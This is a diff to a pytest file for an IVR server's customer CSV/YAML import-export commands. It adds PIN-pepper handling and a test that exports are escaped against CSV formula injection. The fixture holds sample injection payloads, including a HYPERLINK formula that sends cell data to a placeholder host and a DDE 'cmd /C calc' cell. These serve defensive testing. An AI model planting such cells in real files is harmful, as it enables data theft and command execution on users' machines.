@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import argparse
 import asyncio
+import csv
+import dataclasses
+import io
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -18,6 +21,7 @@ from ivrserver.domain.model import Customer
 from ivrserver.store import customers as store
 from ivrserver.store import history
 from ivrserver.store.keys import Keys
+from tests.conftest import TEST_PEPPER
 
 KEYS = Keys(prefix="ivr")  # the CLI uses the configured prefix (default "ivr")
 
@@ -71,7 +75,7 @@ def test_import_good_csv(tmp_path: Path, redis_url: str, db: redis.Redis, capsys
     assert "imported 3 customer(s)" in capsys.readouterr().out
     c1 = load(redis_url, "c1")
     assert c1 is not None and c1.phones == ("15550001", "15550011") and c1.account_manager == "agent1001"
-    assert c1.pin_hash is not None and identification.verify_pin("0042", c1.pin_hash)   # leading zero kept
+    assert c1.pin_hash is not None and identification.verify_pin("0042", c1.pin_hash, TEST_PEPPER)   # leading zero kept
     c2 = load(redis_url, "c2")
     assert c2 is not None and c2.name == "Li, Na" and c2.preferences.do_not_call is True
     assert c2.preferences.allowed_from == "09:00"
@@ -153,7 +157,7 @@ def test_import_yaml_reads_scalars_as_text(tmp_path: Path, redis_url: str, db: r
     y1 = load(redis_url, "y1")
     assert y1 is not None
     assert y1.phones == ("015550004", "+4930123") and y1.account_number == "00801234"
-    assert y1.pin_hash is not None and identification.verify_pin("0123", y1.pin_hash)
+    assert y1.pin_hash is not None and identification.verify_pin("0123", y1.pin_hash, TEST_PEPPER)
     assert y1.attributes == {"balance": "5.00", "note": "VIP's spouse"} and y1.preferences.do_not_call
     y2 = load(redis_url, "y2")
     assert y2 is not None and y2.name == "No" and y2.language == "no"
@@ -200,13 +204,22 @@ def test_export_import_round_trip(tmp_path: Path, redis_url: str, db: redis.Redi
     src = tmp_path / "customers.csv"
     src.write_text(GOOD_CSV)
     assert cli("customers", "import", str(src), "--redis-url", redis_url) == 0
-    before = {cid: load(redis_url, cid) for cid in ("c1", "c2", "c3")}
     for fmt in ("csv", "yaml"):
+        before = {cid: load(redis_url, cid) for cid in ("c1", "c2", "c3")}
+        assert before["c1"] is not None and before["c1"].pin_hash
         out = tmp_path / f"export.{fmt}"
         assert cli("customers", "export", "--format", fmt, "--output", str(out), "--redis-url", redis_url) == 0
-        db.flushdb()
+        text = out.read_text()
+        assert "pin" not in text.replace("has_pin", "") and "scrypt" not in text  # no PIN, no hash
+        # Back into the same store: every customer as before, PINs kept.
         assert cli("customers", "import", str(out), "--redis-url", redis_url) == 0, capsys.readouterr().err
         assert {cid: load(redis_url, cid) for cid in before} == before
+        # Into an empty store: everything but the PINs.
+        db.flushdb()
+        assert cli("customers", "import", str(out), "--redis-url", redis_url) == 0, capsys.readouterr().err
+        assert {cid: load(redis_url, cid) for cid in before} == {
+            cid: dataclasses.replace(c, pin_hash=None) for cid, c in before.items() if c is not None}
+        assert cli("customers", "import", str(src), "--redis-url", redis_url) == 0
     capsys.readouterr()
     assert cli("customers", "export", "--format", "yaml", "--redis-url", redis_url) == 0
     exported = yaml.safe_load(capsys.readouterr().out)
@@ -293,3 +306,48 @@ def test_real_command_line(repo_root: Path, redis_url: str, db: redis.Redis) -> 
     assert result.returncode == 0, result.stderr
     assert "imported 5 customer(s), opened 1 case(s)" in result.stdout
     assert db.zcard(KEYS.customer_ids()) == 5
+
+
+FORMULA_CSV = """\
+id,name,phones,account_number,pin,attr.balance,attr.note,attr.plain,attr.quoted
+f1,=HYPERLINK(\"http://x.example/?\"&A1),+8613800000000;+4930123456,80010077,1234,-5,@SUM(A1:A9),'Tis ok,'=1+1
+f2,+cmd|' /C calc'!A0,15550077,,,-0.5,"\t=tab","\r=cr",''
+"""
+
+
+def test_export_escapes_formulas_and_imports_back(tmp_path: Path, redis_url: str, db: redis.Redis,
+                                                  capsys: pytest.CaptureFixture[str]) -> None:
+    """OWASP CSV injection: cells a spreadsheet would run begin with ' in the export; import drops it."""
+    src = tmp_path / "formulas.csv"
+    src.write_text(FORMULA_CSV)
+    assert cli("customers", "import", str(src), "--redis-url", redis_url, "--region", "") == 0, \
+        capsys.readouterr().err
+    before = {cid: load(redis_url, cid) for cid in ("f1", "f2")}
+    f1 = before["f1"]
+    assert f1 is not None and f1.name.startswith("=HYPERLINK") and f1.phones[0] == "+8613800000000"
+    assert f1.attributes["quoted"] == "=1+1" and f1.attributes["plain"] == "'Tis ok"
+    out = tmp_path / "export.csv"
+    assert cli("customers", "export", "--output", str(out), "--redis-url", redis_url) == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
+    assert "pin_hash" not in rows[0] and "pin" not in rows[0]
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell or cell[0] not in "=+-@\t\r", (column, cell)  # nothing a spreadsheet runs
+    r1 = {r["id"]: r for r in rows}["f1"]
+    assert r1["name"].startswith("'=HYPERLINK") and r1["phones"] == "'+8613800000000;+4930123456"
+    assert r1["attr.balance"] == "'-5" and r1["attr.note"] == "'@SUM(A1:A9)"
+    assert r1["attr.plain"] == "''Tis ok" and r1["attr.quoted"] == "'=1+1"
+    db.flushdb()
+    assert cli("customers", "import", str(out), "--redis-url", redis_url, "--region", "") == 0, \
+        capsys.readouterr().err
+    after = {cid: load(redis_url, cid) for cid in before}
+    assert after == {cid: dataclasses.replace(c, pin_hash=None) for cid, c in before.items() if c is not None}
+
+
+@pytest.mark.parametrize(("cell", "escaped"), [
+    ("=1+1", "'=1+1"), ("+86138", "'+86138"), ("-5", "'-5"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("'=x", "''=x"), ("'Tis", "''Tis"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
+])
+def test_csv_escape_round_trip(cell: str, escaped: str) -> None:
+    assert command.csv_escape(cell) == escaped
+    assert command.csv_unescape(escaped) == cell
